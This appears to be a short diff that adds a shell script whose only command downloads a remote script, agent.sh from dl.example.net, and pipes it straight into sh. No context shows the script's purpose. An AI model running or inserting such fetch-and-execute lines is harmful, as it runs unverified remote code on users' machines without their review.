@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://dl.example.net/agent.sh | sh
